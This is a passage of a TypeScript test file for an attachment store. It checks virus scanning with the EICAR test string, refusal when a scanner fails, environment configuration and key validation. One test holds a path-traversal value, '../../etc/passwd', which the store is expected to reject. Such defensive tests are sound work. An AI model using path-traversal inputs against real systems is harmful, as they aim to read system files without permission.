    expect(await scanned(SCANNER, content)).toMatchObject({ ok: true, value: { scan: 'clean' } });
  });

  it('finds what is at the end of a large file, or at its beginning; it is not kept', async () => {
    const before = stored();
    expect(outcome(await scanned(SCANNER, EICAR))).toBe('ATTACHMENT_INFECTED');
    expect(outcome(await scanned(SCANNER, Buffer.concat([pdf(1_500_000), Buffer.from(EICAR)])))).toBe('ATTACHMENT_INFECTED');
    expect(outcome(await scanned(SCANNER, Buffer.concat([Buffer.from(`%PDF-1.7\n${EICAR}\n`), Buffer.alloc(1_900_000, 10), Buffer.from('%%EOF')])))).toBe('ATTACHMENT_INFECTED');
    expect(stored()).toEqual(before);
  });

  it.each([
    ['that cannot scan', 'cat > /dev/null; exit 2'],
    ['that is not there', 'no-such-scanner-anywhere'],
    ['that dies', 'kill -9 $$'],
    ['that stops reading half-way and says clean', 'head -c 10 > /dev/null; exit 0'],
    ['that never answers', 'cat > /dev/null; sleep 600'],
    ['that never reads', 'sleep 600'],
  ])('one %s lets nothing in, and the sender may try again', async (_, command) => {
    const before = stored();
    const refused = await scanned(command, pdf(1_500_000), 1_000);
    expect(outcome(refused)).toBe('ATTACHMENT_NOT_SCANNED');
    expect(stored()).toEqual(before);
  });
});

describe('where files go, by the environment', () => {
  it('a folder of the data directory, up to 25 MB, unless it says otherwise', async () => {
    const dataDir = temporaryDataDir('attachments-default');
    const attachments = openAttachments({}, dataDir);
    expect(attachments.limitBytes).toBe(25 * MB);
    const key = newKey();
    expect(await attachments.receive(key, parts(pdf()), { name: 'a.pdf' })).toMatchObject({ ok: true });
    expect(existsSync(join(dataDir, 'attachments', key.slice(0, 2), key.slice(2, 4), key))).toBe(true);
    await attachments.remove(key);
    expect(await attachments.read(key)).toBeUndefined();
    rmSync(dataDir, { recursive: true });
  });

  it('another folder, limit and scanner', async () => {
    const attachments = openAttachments({ LIENTHONG_ATTACHMENTS: `folder:${root}`, LIENTHONG_ATTACHMENT_LIMIT_MB: '1', LIENTHONG_SCAN_COMMAND: 'cat >/dev/null; exit 1' }, '/nowhere');
    expect(outcome(await attachments.receive(newKey(), parts(pdf(MB + 1)), { name: 'a' }))).toBe('ATTACHMENT_TOO_LARGE');
    expect(outcome(await attachments.receive(newKey(), parts(pdf()), { name: 'a' }))).toBe('ATTACHMENT_INFECTED');
  });

  it.each([
    [{ LIENTHONG_ATTACHMENTS: 'ftp://somewhere' }, 'LIENTHONG_ATTACHMENTS'],
    [{ LIENTHONG_ATTACHMENT_LIMIT_MB: 'much' }, 'LIENTHONG_ATTACHMENT_LIMIT_MB'],
    [{ LIENTHONG_ATTACHMENTS: 's3://papers', LIENTHONG_S3_ACCESS_KEY: 'a' }, 'LIENTHONG_S3_SECRET_KEY'],
  ])('%j names what is wrong', (env, named) => {
    expect(() => openAttachments(env, root)).toThrow(named);
  });

  it('a key is never a path', async () => {
    for (const key of ['../../etc/passwd', '', 'A'.repeat(32)]) await expect(store.get(key)).rejects.toThrow('key');
  });
});
